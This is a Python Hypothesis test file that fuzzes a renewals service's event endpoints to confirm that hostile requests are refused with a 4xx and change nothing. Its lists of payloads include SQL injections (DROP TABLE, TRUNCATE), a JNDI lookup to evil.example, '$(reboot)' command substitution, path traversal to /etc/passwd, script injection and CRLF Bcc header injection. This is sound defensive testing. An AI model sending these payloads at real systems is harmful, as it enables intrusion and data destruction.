"""Hostile input (issue 6): malformed, oversized, wrongly typed, unicode-heavy and injection-shaped
events, correctly signed so they get past the signature, sent to both event endpoints of the real
app over the real Temporal dev server, worker, PostgreSQL and SMTP sink.

Every one is refused with a 4xx and the contract's JSON error (DESIGN.md §5), never a 5xx nor an
unexpected exception in the log, and changes nothing: no row in PostgreSQL, no workflow in
Temporal. Holder names cannot inject mail headers (ServiceRecord refuses control characters, and
the mailer flattens them as well), and usernames with quotes never reach SQL.

Hypothesis drives the examples from sync tests that run each request on the session's event loop,
so one snapshot of the database and of Temporal brackets a whole run of examples.
"""

import asyncio
import email
import email.policy
import json
import logging
import re
import traceback
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiosmtplib
import aiosmtplib.email
import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError
from temporalio.service import RPCError, RPCStatusCode
from temporalio.testing import ActivityEnvironment, WorkflowEnvironment

from activities.mail import Mailer, message_id, one_line
from activities.store import Store
from client.renewals import Renewals
from ingress.api.deps import MAX_BODY_BYTES
from ingress.api.panel import PANEL_EVENT
from ingress.api.payments import PAYMENT_EVENT
from ingress.http import create_app
from renewals.calls import SendEmail
from renewals.records import ServiceRecord
from renewals.signing import signed_headers
from starter import CliError, validate_services
from tests.conftest import ROOT, MailSink, eventually, handle_of, new_service, today, unique

PANEL = "panel-hostile-secret"
PAYMENTS = "payments-hostile-secret"
PANEL_PATH = "/panel/events"
PAYMENTS_PATH = "/payments/events"

# The issue asks for at least 500 generated requests per endpoint; a few more for margin.
EXAMPLES = 520
SENT: Counter[str] = Counter()

FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,  # nothing written under the work tree; a failure prints its reproduction
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
        HealthCheck.large_base_example,
    ],
)

# Every table a request could write to, and the workflows: equal before and after a batch.
TABLES = ("services", "service_addons", "orders", "order_lines", "payments", "email_log", "renewal_events")
# Text that would betray a traceback or an internal detail in an answer.
LEAK_MARKERS = (
    "Traceback",
    'File "/',
    "site-packages",
    "pydantic_core",
    "errors.pydantic.dev",
    "asyncpg",
    "temporalio",
)
PANEL_STATUSES = {400, 404, 409, 413, 422}  # 404/409 only for well-formed events of unknown usernames
PAYMENT_STATUSES = {400, 413, 422}  # every generated payment is malformed: a valid one is recorded

PANEL_TYPES = (
    "renew_requested",
    "reactivate_requested",
    "addon_added",
    "addon_removed",
    "discount_code_applied",
    "checkout_submitted",
)
PANEL_FIELDS: dict[str, tuple[str, ...]] = {
    "renew_requested": ("username",),
    "reactivate_requested": ("username",),
    "addon_added": ("username", "addon", "quantity"),
    "addon_removed": ("username", "addon"),
    "discount_code_applied": ("username", "code"),
    "checkout_submitted": ("username", "payment_method", "years"),
}
METHODS = ("card", "paypal", "bank_transfer", "postal_slip")

SQL_INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE services; --",
    "x'; DELETE FROM services WHERE ''='",
    '" OR ""="',
    "admin'--",
    "1; SELECT pg_sleep(10)",
    "%' AND 1=1 --",
    "' UNION SELECT username, holder_email FROM services --",
    "\\'; TRUNCATE payments; --",
    "$1",
    "'||(SELECT version())||'",
    "WorkflowId = 'x' OR WorkflowId != ''",
)
OTHER_INJECTIONS = (
    "Mario\r\nBcc: evil@example.com",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)",
    "`id`",
    "../../../etc/passwd",
    "%00",
    "\\u0000",
    "\x00",
    "renewal-*",
    "__proto__",
)
UNICODE_SAMPLES = (
    "Ωμέγα",
    "数据库用户",
    "مرحبا",
    "\u202egnp.exe",
    "\ufeffbom",
    "e\u0301" * 30,
    "\U0001f600" * 20,
    "line\u2028separator\u2029",
    "next\u0085line",
    "ｆｕｌｌｗｉｄｔｈ",
    "zero\u200bwidth\u200d",
    "İstanbul",
    "\U000e0041tag",
    "\uffff\ufffe",
)

# JSON of every shape.
scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=20)
)
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)
# Not a string: for the string fields.
not_strings = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.lists(json_values, max_size=3),
    st.dictionaries(st.text(max_size=8), json_values, max_size=3),
)
# Neither a number nor anything pydantic would read as one: for the integer fields.
not_numbers = st.one_of(st.none(), st.lists(json_values, max_size=3), st.dictionaries(st.text(max_size=8), json_values))
unicode_heavy = st.text(alphabet=st.characters(min_codepoint=0x80), min_size=1, max_size=40)
hostile_text = st.one_of(
    st.sampled_from(SQL_INJECTIONS + OTHER_INJECTIONS + UNICODE_SAMPLES),
    st.text(max_size=40),
    unicode_heavy,
    st.builds(lambda a, b: a + b, st.sampled_from(SQL_INJECTIONS + OTHER_INJECTIONS), unicode_heavy | st.text()),
    st.text(alphabet="'\";-\\/*%_`$(){}[]<>|&=\r\n\t\x00 ORSELCTDROPunio", min_size=1, max_size=30),
    st.integers(65, 3000).map(lambda n: "a" * n),  # past the username's 64 characters
)
# Well-formed usernames of no service: a well-formed event for them is refused 404/409, opening nothing.
unknown_usernames = st.from_regex(r"nx-[A-Za-z0-9._@-]{0,40}", fullmatch=True)


def digitless(value: str) -> bool:
    """No digit of any script: pydantic reads "12" as an integer and "2026-01-01" as a date."""
    return not any(character.isdigit() or character.isnumeric() for character in value)


PANEL_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "username": st.one_of(unknown_usernames, hostile_text, not_strings),
    "addon": st.one_of(st.sampled_from(["extra_storage", "extra_users"]), hostile_text, not_strings),
    "quantity": st.one_of(
        st.integers(1, 100), st.integers(), st.sampled_from([0, -1, 101, 10**20, -(10**30)]), hostile_text, not_numbers
    ),
    "code": st.one_of(st.from_regex(r"[A-Za-z0-9_-]{1,32}", fullmatch=True), hostile_text, not_strings),
    "payment_method": st.one_of(st.sampled_from(METHODS), hostile_text, not_strings),
    "years": st.one_of(st.integers(1, 10), st.integers(), hostile_text, not_numbers),
}
MISSING = object()
extra_fields = st.dictionaries(
    st.one_of(
        st.sampled_from(["id", "__proto__", "constructor", "$where", "workflow_id", "run_id", "by_hand", "admin"]),
        hostile_text,
    ),
    json_values,
    max_size=2,
)


@st.composite
def panel_events(draw: st.DrawFn) -> Any:
    """Panel-event-shaped JSON: a known type mostly, each field valid, hostile, mistyped or missing."""
    kind = draw(st.one_of(st.sampled_from(PANEL_TYPES), hostile_text, not_strings, st.just(MISSING)))
    event: dict[str, Any] = {} if kind is MISSING else {"type": kind}
    for field in PANEL_FIELDS.get(kind, ("username",)) if isinstance(kind, str) else ("username",):
        value = draw(PANEL_VALUES[field] | st.just(MISSING))
        if value is not MISSING:
            event[field] = value
    for key, value in draw(extra_fields).items():
        event.setdefault(key, value)
    return event


@st.composite
def encoded(draw: st.DrawFn, values: st.SearchStrategy[Any]) -> bytes:
    """JSON text, escaped to ASCII or as raw UTF-8 (a lone surrogate becomes invalid UTF-8)."""
    return json.dumps(draw(values), ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")


def raw_bodies(template: dict[str, Any]) -> st.SearchStrategy[bytes]:
    """Bytes that are not one well-formed event object, built around a valid `template`."""
    valid = json.dumps(template).encode()
    head = valid[:-1]  # the template without its closing brace
    specials = [
        b"",
        b"null",
        b"\xef\xbb\xbf" + valid,  # a byte-order mark
        json.dumps(template).encode("utf-16"),
        json.dumps(template).encode("utf-32"),
        valid + b" trailing",
        valid + valid,
        head + b',"x":NaN}',
        head + b',"x":Infinity}',
        head + b',"x":' + b"9" * 5000 + b"}",  # an integer past Python's 4300-digit limit
        head + b',"x":"\\ud800"}',  # a lone surrogate, escaped
        head + b',"x":"\xed\xa0\x80"}',  # a lone surrogate, as (invalid) UTF-8
        head + b',"x":"\xff\xfe\xc0\xaf"}',  # invalid UTF-8, an overlong slash
        head + b',"x":"\x00\r\n"}',  # raw control characters inside a string
        valid.replace(b"{", b'{"type":"renew_requested",', 1),  # a duplicated key
        b"{" + b'"a":1,' * 5000 + b'"b":2}',
        b"[" + b"{}," * 10000 + b"{}]",
    ]
    return st.one_of(
        st.sampled_from(specials),
        st.binary(max_size=300),
        st.text(max_size=200).map(str.encode),
        st.integers(0, len(valid) - 1).map(lambda n: valid[:n]),  # truncated
        json_values.filter(lambda value: not isinstance(value, dict)).map(lambda value: json.dumps(value).encode()),
        # Deeply nested, past pydantic's limit (200) but short of Python's recursion limit: deeper
        # still has its own test of ingress/metrics.py below.
        st.integers(100, 500).map(lambda n: b"[" * n + b"]" * n),
        st.integers(100, 500).map(lambda n: b'{"a":' * n + b"1" + b"}" * n),
        # Over (or just under) 64 KiB: 413 before parsing, or 422 for the unknown field.
        st.integers(MAX_BODY_BYTES - 200, 3 * MAX_BODY_BYTES).map(
            lambda n: json.dumps({**template, "padding": "x" * n}).encode()
        ),
    )


PANEL_TEMPLATE = {"type": "checkout_submitted", "username": "nx-template", "payment_method": "card", "years": 1}


@st.composite
def mutated(draw: st.DrawFn, template: dict[str, Any]) -> bytes:
    """The valid template with a few bytes replaced, inserted or deleted."""
    body = bytearray(json.dumps(template).encode())
    for _ in range(draw(st.integers(1, 4))):
        if not body:
            break
        at = draw(st.integers(0, len(body) - 1))
        how = draw(st.sampled_from(["replace", "insert", "delete"]))
        if how == "delete":
            del body[at]
        else:
            byte = draw(st.sampled_from(b"'\"\\{}[],:;-\x00\r\n \xff") | st.integers(0, 255))
            body[at : at + (how == "replace")] = bytes([byte])
    return bytes(body)


panel_bodies = st.one_of(
    encoded(panel_events()),
    encoded(panel_events()),  # twice the weight: the event-shaped bodies exercise the most code
    raw_bodies(PANEL_TEMPLATE),
    mutated(PANEL_TEMPLATE),
)

# ------------------------------------------------------------------ payments: always malformed

# P11: the reference is free text (1–140 characters, no control characters) and the currency any
# three letters; what passes those is stored (as unmatched when it fits no order), so the
# generators here break them only in ways P11 refuses. Coercible values have their own tests.
CONTROL = re.compile(r"[\x00-\x1f\x7f]")
LETTERS3 = re.compile(r"[A-Za-z]{3}")


def fine_reference(value: Any) -> bool:
    return isinstance(value, str) and 1 <= len(value) <= 140 and not CONTROL.search(value)


TRANSACTION_ID = re.compile(r"[A-Za-z0-9._:-]{1,64}")
BAD_PAYMENT_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "type": st.one_of(
        st.sampled_from([*PANEL_TYPES, "PAYMENT_REGISTERED", "payment_registered ", " payment_registered", ""]),
        hostile_text,
        not_strings,
    ).filter(lambda value: value != "payment_registered"),
    "order_number": st.one_of(
        st.sampled_from(["", "FE-2026-000123\n", "FE-2026-\x00000123", "Bonifico\r\nFE-2026-000123", "x" * 141]),
        hostile_text,
        not_strings,
    ).filter(lambda value: not fine_reference(value)),
    "transaction_id": st.one_of(
        st.sampled_from(["", "t x", "t'--", "t\n", "t" * 65]), hostile_text, not_strings
    ).filter(lambda value: not (isinstance(value, str) and TRANSACTION_ID.fullmatch(value))),
    "amount_cents": st.one_of(
        st.integers(max_value=0),
        st.integers(min_value=100_000_001),
        st.floats().filter(lambda value: not value.is_integer()),
        hostile_text.filter(digitless),
        not_numbers,
    ),
    "currency": st.one_of(
        st.sampled_from(["EUR ", " EUR", "€", "EUR\x00", "EURO", "E1R", ""]), hostile_text, not_strings
    ).filter(lambda value: not (isinstance(value, str) and LETTERS3.fullmatch(value))),
    "method": st.one_of(
        st.sampled_from(["CARD", "card ", "cash", "bitcoin", "bank transfer"]), hostile_text, not_strings
    ).filter(lambda value: value not in METHODS),
    "registered_at": st.one_of(
        hostile_text.filter(digitless), st.none(), st.booleans(), st.lists(json_values, max_size=3), st.just({})
    ),
}
PAYMENT_TEMPLATE = {
    "type": "payment_registered",
    "order_number": "FE-1999-000123",  # a year no order of the session has
    "transaction_id": "hx-template",
    "amount_cents": 3050,
    "currency": "EUR",
    "method": "bank_transfer",
    "registered_at": "2026-01-01T10:00:00+00:00",
}


@st.composite
def payment_events(draw: st.DrawFn) -> dict[str, Any]:
    """A well-formed payment with at least one field broken, removed, or an unknown field added."""
    event: dict[str, Any] = {
        "type": "payment_registered",
        "order_number": draw(st.from_regex(r"FE-20[0-9]{2}-[0-9]{6,8}", fullmatch=True)),
        "transaction_id": draw(st.from_regex(r"hx-[A-Za-z0-9._:-]{1,40}", fullmatch=True)),
        "amount_cents": draw(st.integers(1, 100_000_000)),
        "currency": "EUR",
        "method": draw(st.sampled_from(METHODS)),
        "registered_at": draw(st.datetimes(timezones=st.just(UTC))).isoformat(),
    }
    broken = draw(st.sets(st.sampled_from([*BAD_PAYMENT_VALUES, "unknown field"]), min_size=1))
    for field in broken:
        if field == "unknown field":
            extras = {key: value for key, value in draw(extra_fields).items() if key not in PAYMENT_TEMPLATE}
            event.update(extras or {"zz-unexpected": True})
        elif draw(st.booleans()):
            event[field] = draw(BAD_PAYMENT_VALUES[field])
        else:
            del event[field]
    return event


payment_bodies = st.one_of(
    encoded(payment_events()),
    encoded(payment_events()),
    raw_bodies({**PAYMENT_TEMPLATE, "zz-unexpected": True}),  # even the template is refused
)

# ---------------------------------------------------------------------------- fixtures and helpers


@pytest.fixture(scope="module")
async def loop() -> asyncio.AbstractEventLoop:
    """The session's event loop, where the pool, the Temporal client and the worker live."""
    return asyncio.get_running_loop()


@pytest.fixture(scope="module")
async def http(ingress: Renewals) -> AsyncIterator[httpx.AsyncClient]:
    # raise_app_exceptions=False: an unhandled exception is answered as a 5xx the test can see.
    transport = httpx.ASGITransport(app=create_app(ingress, PANEL, PAYMENTS), raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        yield client


def runner(loop: asyncio.AbstractEventLoop) -> Callable[[Awaitable[Any]], Any]:
    def run(awaitable: Awaitable[Any]) -> Any:
        return loop.run_until_complete(awaitable)

    return run


async def post(http: httpx.AsyncClient, path: str, body: bytes, secret: str) -> httpx.Response:
    """POST `body` signed with the endpoint's own secret, as its sender would."""
    headers = {"Content-Type": "application/json", **signed_headers(secret, "POST", path, body)}
    SENT[path] += 1
    return await http.post(path, content=body, headers=headers)


async def signed_get(http: httpx.AsyncClient, path: str) -> httpx.Response:
    # The path as httpx puts it on the wire (percent-encoded): what the signature covers (P21).
    return await http.get(path, headers=signed_headers(PANEL, "GET", httpx.URL(path).raw_path.decode()))


def refusal(response: httpx.Response, sent: bytes, statuses: set[int]) -> dict[str, str]:
    """A 4xx with exactly `{"error", "message"}` and nothing that betrays the inside."""
    assert response.status_code in statuses, f"{response.status_code}: {response.text[:500]}"
    assert response.headers["content-type"].startswith("application/json"), response.headers
    answer = response.json()
    assert isinstance(answer, dict) and set(answer) == {"error", "message"}, answer
    assert isinstance(answer["error"], str) and re.fullmatch(r"[a-z_]+", answer["error"]), answer
    assert isinstance(answer["message"], str) and answer["message"], answer
    request_text = sent.decode("utf-8", "replace")
    for marker in LEAK_MARKERS:
        if marker not in request_text:  # an echoed input may carry it; an answer of ours must not
            assert marker not in response.text and marker not in answer["message"], answer
    return answer


def well_formed(adapter: TypeAdapter[Any], body: bytes) -> Any:
    try:
        return adapter.validate_json(body)
    except ValidationError:
        return None


def unexpected_errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    """ERROR records: an exception the ingress did not expect, even one raised after it answered."""
    found = []
    for record in caplog.records:
        if record.levelno >= logging.ERROR:
            error = record.exc_info[1] if record.exc_info else None
            frames = traceback.extract_tb(error.__traceback__) if error is not None else []
            ours = [
                f"{Path(frame.filename).relative_to(ROOT)}:{frame.lineno}"
                for frame in frames
                if frame.filename.startswith(str(ROOT)) and ".venv" not in frame.filename
            ]
            found.append(f"{record.getMessage()}: {type(error).__name__} at {ours[-1:] or 'unknown'}")
    return sorted(set(found))


async def snapshot(env: WorkflowEnvironment, store: Store) -> dict[str, int]:
    counts = {table: await store.pool.fetchval(f"SELECT count(*) FROM {table}") for table in TABLES}
    counts["workflows"] = (await env.client.count_workflows()).count
    return counts


async def settled_snapshot(env: WorkflowEnvironment, store: Store, timeout: float = 15.0) -> dict[str, int]:
    """The state once earlier tests' workflows have stopped writing: three equal readings in a row."""
    deadline = asyncio.get_running_loop().time() + timeout
    readings = [await snapshot(env, store)]
    while len(readings) < 3 or not readings[-1] == readings[-2] == readings[-3]:
        if asyncio.get_running_loop().time() > deadline:
            raise AssertionError(f"the database and Temporal did not settle: {readings[-3:]}")
        await asyncio.sleep(0.1)
        readings.append(await snapshot(env, store))
    return readings[-1]


async def no_workflow(env: WorkflowEnvironment, username: str) -> None:
    with pytest.raises(RPCError) as raised:
        await handle_of(env.client, username).describe()
    assert raised.value.status == RPCStatusCode.NOT_FOUND


# ---------------------------------------------------------------------------- the two endpoints


def assert_batch_changed_nothing(
    run: Callable[[Awaitable[Any]], Any],
    env: WorkflowEnvironment,
    store: Store,
    caplog: pytest.LogCaptureFixture,
    path: str,
    start: int,
    before: Any,
) -> None:
    """After a batch to one endpoint: enough requests, every one a 4xx, no state change, no
    unexpected error in the logs."""
    sent = SENT[path] - start
    print(f"\nhostile input: {sent} generated requests to {path}, every one a 4xx")
    assert sent >= 500
    assert run(snapshot(env, store)) == before
    assert unexpected_errors(caplog) == []


def test_hostile_panel_events_are_refused_with_a_4xx_and_change_nothing(
    loop: asyncio.AbstractEventLoop,
    http: httpx.AsyncClient,
    store: Store,
    env: WorkflowEnvironment,
    caplog: pytest.LogCaptureFixture,
) -> None:
    run = runner(loop)
    before = run(settled_snapshot(env, store))
    start = SENT[PANEL_PATH]

    @FUZZ
    @given(body=panel_bodies)
    @example(body=b'{"type": "renew_requested", "username": "x\' OR \'1\'=\'1"}')
    @example(body=b'{"type": "renew_requested", "username": "nx-a\'; DROP TABLE services; --"}')
    @example(body=b'{"type": "checkout_submitted", "username": "nx-a", "payment_method": "card", "years": 1}')
    @example(body='{"type": "renew_requested", "username": "数据库"}'.encode())
    @example(body=b'{"type": "renew_requested", "username": "nx-a\\r\\nX-Injected: 1"}')
    def check(body: bytes) -> None:
        response = run(post(http, PANEL_PATH, body, PANEL))
        refusal(response, body, PANEL_STATUSES)
        event = well_formed(PANEL_EVENT.adapter, body)
        if event is not None:
            # Well-formed, for a username of no service: refused before any workflow starts.
            assert response.status_code in (404, 409), response.text
            run(no_workflow(env, event.username))

    check()
    assert_batch_changed_nothing(run, env, store, caplog, PANEL_PATH, start, before)


def test_hostile_payment_events_are_refused_with_a_4xx_and_change_nothing(
    loop: asyncio.AbstractEventLoop,
    http: httpx.AsyncClient,
    store: Store,
    env: WorkflowEnvironment,
    caplog: pytest.LogCaptureFixture,
) -> None:
    run = runner(loop)
    before = run(settled_snapshot(env, store))
    start = SENT[PAYMENTS_PATH]
    transaction_ids: set[str] = set()

    @FUZZ
    @given(body=payment_bodies)
    @example(body=json.dumps({**PAYMENT_TEMPLATE, "transaction_id": "hx-1'; DROP TABLE payments; --"}).encode())
    @example(body=json.dumps({**PAYMENT_TEMPLATE, "order_number": "FE-2026-000123\r\nX"}).encode())
    @example(body=json.dumps({**PAYMENT_TEMPLATE, "amount_cents": -3050}).encode())
    @example(body=json.dumps({**PAYMENT_TEMPLATE, "currency": "EURO"}).encode())
    @example(body=json.dumps({**PAYMENT_TEMPLATE, "by_hand": True}).encode())
    def check(body: bytes) -> None:
        try:
            sent_id = json.loads(body).get("transaction_id")
        except (ValueError, AttributeError, RecursionError):
            sent_id = None
        if isinstance(sent_id, str):
            transaction_ids.add(sent_id)
        response = run(post(http, PAYMENTS_PATH, body, PAYMENTS))
        refusal(response, body, PAYMENT_STATUSES)
        assert well_formed(PAYMENT_EVENT.adapter, body) is None, "a generated payment was well formed"

    check()
    assert_batch_changed_nothing(run, env, store, caplog, PAYMENTS_PATH, start, before)
    # Ids PostgreSQL cannot even hold (NUL, lone surrogates) were refused by the pattern anyway.
    storable = {t for t in transaction_ids if "\x00" not in t and t.encode("utf-8", "replace").decode() == t}
    recorded = run(
        store.pool.fetchval("SELECT count(*) FROM payments WHERE transaction_id = ANY($1)", sorted(storable))
    )
    assert recorded == 0


# Found by the generators above when order numbers had a format: now (P11) such a reference is
# money kept for ops, never refused, and never matched to the order it resembles.
@pytest.mark.parametrize(
    "order_number",
    ["FE-２０２６-１２３４５６", "FE-٢٠٢٦-١٢٣٤٥٦", "FE-2026-000123' OR '1'='1"],
    ids=["fullwidth-digits", "arabic-indic-digits", "sql-shaped"],
)
async def test_p11_payment_with_a_strange_reference_is_stored_unmatched(
    http: httpx.AsyncClient, store: Store, order_number: str
) -> None:
    event = {**PAYMENT_TEMPLATE, "order_number": order_number, "transaction_id": unique("hx-digits")}
    body = json.dumps(event, ensure_ascii=False).encode()
    response = await post(http, PAYMENTS_PATH, body, PAYMENTS)
    assert response.status_code == 200 and response.json()["status"] == "unmatched", response.text
    row = await store.pool.fetchrow(
        "SELECT order_number, status FROM payments WHERE transaction_id = $1", event["transaction_id"]
    )
    assert (row["order_number"], row["status"]) == (order_number, "unmatched")


@pytest.mark.parametrize(
    "field, value",
    [
        ("amount_cents", True),
        ("amount_cents", "3050"),
        ("amount_cents", 3050.0),
        ("registered_at", 0),
        ("registered_at", "2026-01-01"),
    ],
    ids=["amount-true", "amount-string", "amount-float", "registered-at-epoch-int", "registered-at-bare-date"],
)
async def test_payment_with_a_wrongly_typed_field_is_refused(
    http: httpx.AsyncClient, store: Store, field: str, value: Any
) -> None:
    event = {**PAYMENT_TEMPLATE, field: value, "transaction_id": unique("hx-lax")}
    body = json.dumps(event).encode()
    try:
        refusal(await post(http, PAYMENTS_PATH, body, PAYMENTS), body, PAYMENT_STATUSES)
    finally:
        recorded = await store.pool.fetchval(
            "SELECT count(*) FROM payments WHERE transaction_id = $1", event["transaction_id"]
        )
        assert recorded == 0, f"the ledger recorded a payment with {field}={value!r}"


@pytest.mark.parametrize("path", [PANEL_PATH, PAYMENTS_PATH])
@pytest.mark.parametrize(
    "body",
    [b"[" * 5_000 + b"]" * 5_000, b'{"a":' * 5_000 + b"1" + b"}" * 5_000],
    ids=["arrays-5000-deep", "objects-5000-deep"],
)
async def test_deeply_nested_json_is_refused_without_an_unexpected_error(
    http: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, path: str, body: bytes
) -> None:
    secret = PANEL if path == PANEL_PATH else PAYMENTS
    refusal(await post(http, path, body, secret), body, {400, 422})
    assert unexpected_errors(caplog) == []


# ---------------------------------------------------------------------------- SQL-shaped usernames

sql_shaped = st.one_of(
    st.sampled_from(SQL_INJECTIONS),
    st.builds(lambda a, b: a + b, st.from_regex(r"[A-Za-z0-9]{1,8}", fullmatch=True), st.sampled_from(SQL_INJECTIONS)),
    st.text(alphabet="'\";-/*=()% ORANDSELECTDROPunion", min_size=1, max_size=40).filter(
        lambda text: "'" in text or '"' in text or ";" in text
    ),
)
# Within the username pattern yet SQL-looking: these do reach SQL, as a parameter.
sql_looking_but_valid = st.sampled_from(["nx--", "nx-a--", "nx-1.0--", "nx-@--", "nx-x.y@z-w", "nx-admin--"])


def test_usernames_with_quotes_never_reach_sql(
    loop: asyncio.AbstractEventLoop, http: httpx.AsyncClient, store: Store, env: WorkflowEnvironment
) -> None:
    run = runner(loop)
    run(new_service(store))  # at least one row to keep
    services = "SELECT md5(string_agg(s::text, '|' ORDER BY username)) FROM services s"
    before, checksum = run(settled_snapshot(env, store)), run(store.pool.fetchval(services))
    looked_up: list[str] = []
    real_get_service = store.services.get

    async def spy(username: str) -> Any:
        looked_up.append(username)
        return await real_get_service(username)

    @settings(FUZZ, max_examples=150)
    @given(username=sql_shaped)
    def quoted(username: str) -> None:
        looked_up.clear()
        body = json.dumps({"type": "renew_requested", "username": username}).encode()
        refusal(run(post(http, PANEL_PATH, body, PANEL)), body, {422})
        # (A '/' in a path, even as %2F, makes another route: not a username read.)
        for read in ("services", "renewals") if "/" not in username else ():
            response = run(signed_get(http, f"/panel/{read}/{quote(username, safe='')}"))
            refusal(response, username.encode(), {422})
        assert looked_up == [], f"{username!r} reached the store"

    @settings(FUZZ, max_examples=6)
    @given(username=sql_looking_but_valid)
    def parameter(username: str) -> None:
        looked_up.clear()
        response = run(signed_get(http, f"/panel/services/{quote(username, safe='')}"))
        assert refusal(response, b"", {404})["error"] == "unknown_service"
        assert looked_up == [username]  # the text travelled unchanged, as $1

    store.services.get = spy  # type: ignore[method-assign]
    try:
        quoted()
        parameter()
    finally:
        del store.services.get  # back to the class's method
    assert run(store.pool.fetchval(services)) == checksum
    assert run(snapshot(env, store)) == before


# ---------------------------------------------------------------------------- mail headers

BREAKS = ("\r\n", "\n", "\r", "\r\n\t", "\r\n ", "\x00", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028")
CONTROL_BREAKS = tuple(b for b in BREAKS if re.search(r"[\x00-\x1f\x7f]", b))
injected_headers = st.sampled_from(
    [
        "Bcc: evil@example.com",
        "Cc: evil@example.com",
        "To: evil@example.com",
        "Subject: pagato",
        "Content-Type: text/html",
        "X-Injected: yes",
        "",  # an empty line: the rest would become the body
    ]
)


@st.composite
def header_injecting_names(draw: st.DrawFn, breaks: tuple[str, ...]) -> str:
    name = draw(st.sampled_from(["Mario Rossi", "Ditta Srl", "Zoë Müller", "数据", ""]))
    for _ in range(draw(st.integers(1, 3))):
        name += draw(st.sampled_from(breaks)) + draw(injected_headers)
    return name + draw(st.text(max_size=10))


def service_record(holder_name: str) -> dict[str, Any]:
    return {
        "username": "nx-mail",
        "holder_name": holder_name,
        "holder_email": "mario@example.com",
        "purchased_on": today().isoformat(),
        "expires_on": today().isoformat(),
        "auto_renew": False,
        "storage_quota_mb": 1000,
        "storage_used_mb": 0,
    }


@settings(FUZZ, max_examples=200)
@given(name=header_injecting_names(CONTROL_BREAKS))
def test_service_record_refuses_holder_names_with_control_characters(name: str) -> None:
    with pytest.raises(ValidationError) as raised:
        ServiceRecord.model_validate(service_record(name))
    assert [problem["loc"] for problem in raised.value.errors()] == [("holder_name",)]
    # The provisioning import goes through the same model: nothing is imported.
    with pytest.raises(CliError, match="holder_name"):
        validate_services(json.dumps([service_record(name)]).encode())


@settings(FUZZ, max_examples=300)
@given(text=st.text() | header_injecting_names(BREAKS))
def test_one_line_leaves_no_control_character(text: str) -> None:
    flat = one_line(text)
    assert not re.search(r"[\x00-\x1f\x7f]", flat)
    assert flat == flat.strip()


EMAIL_HEADERS = {
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "X-Renewals-Key",
    "Content-Type",
    "Content-Transfer-Encoding",
    "MIME-Version",
}


def header_lines(raw: bytes) -> list[str]:
    """The names of the header lines that start a header (not folded continuations)."""
    head = re.split(rb"\r?\n\r?\n", raw, maxsplit=1)[0]
    names = []
    for line in re.split(rb"\r\n|\n|\r", head):
        if line and line[:1] not in (b" ", b"\t"):
            names.append(line.split(b":", 1)[0].decode("ascii", "replace"))
    return names


def delivered(sink: MailSink, seen: set[Path], wanted: str) -> bytes | None:
    for path in sorted(set(sink.directory.glob("*.eml")) - seen):
        seen.add(path)
        raw = path.read_bytes()
        if email.message_from_bytes(raw)["Message-ID"] == wanted:
            return raw
    return None


def test_holder_names_with_line_breaks_cannot_inject_mail_headers(
    loop: asyncio.AbstractEventLoop, mailer: Mailer, mail_sink: MailSink, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Below the model's refusal, the mailer itself: whatever reaches it, one header per line."""
    run = runner(loop)
    seen = set(mail_sink.directory.glob("*.eml"))

    @settings(FUZZ, max_examples=30)
    @given(name=header_injecting_names(BREAKS) | unicode_heavy)
    @example(name="\ud800")  # a lone surrogate: once made the mailer raise UnicodeEncodeError
    def send(name: str) -> None:
        key = unique("hostile-mail")
        address = f"{unique('holder')}@example.com"
        request = SendEmail(
            key=key,
            template="order_cancelled",
            username="nx-mail",
            to_name=name,
            to_email=address,
            order_number="FE-2026-000001",
            reason="prova",
        )
        run(ActivityEnvironment().run(mailer.send_email, request))
        raw = run(eventually(lambda: delivered(mail_sink, seen, message_id(key)), 10.0, "the email at the sink"))
        assert sorted(header_lines(raw)) == sorted(EMAIL_HEADERS), header_lines(raw)
        message = email.message_from_bytes(raw, policy=email.policy.default)
        for absent in ("Bcc", "Cc", "X-Injected"):
            assert message[absent] is None
        assert len(message.get_all("To")) == 1
        # Delivered to the holder alone. (What the To line then *reads* as is the test below.)
        assert envelopes[-1] == [address]

    envelopes: list[list[str]] = []
    real_send = aiosmtplib.SMTP.send_message

    async def spy(smtp: aiosmtplib.SMTP, message: Any, **kwargs: Any) -> Any:
        envelopes.append(aiosmtplib.email.extract_recipients(message))
        return await real_send(smtp, message, **kwargs)

    monkeypatch.setattr(aiosmtplib.SMTP, "send_message", spy)
    send()


@pytest.mark.parametrize(
    "holder_name",
    [
        "Zoë Müller\r\nBcc: evil@example.com",
        "Zoë, evil@example.com",
        "Caffè Rossi, S.r.l.",
        "Mario Rossi\r\nBcc: evil@example.com\r\nBcc: evil@example.com\r\nBcc: evil@example.com",
    ],
    ids=["crlf-bcc-non-ascii", "comma-address-non-ascii", "legit-company-name", "crlf-bcc-folded-ascii"],
)
async def test_a_holder_name_stays_the_display_name_of_the_one_recipient(
    mailer: Mailer, mail_sink: MailSink, holder_name: str
) -> None:
    seen = set(mail_sink.directory.glob("*.eml"))
    key, address = unique("hostile-mail"), f"{unique('holder')}@example.com"
    request = SendEmail(
        key=key,
        template="order_cancelled",
        username="nx-mail",
        to_name=holder_name,
        to_email=address,
        order_number="FE-2026-000001",
        reason="prova",
    )
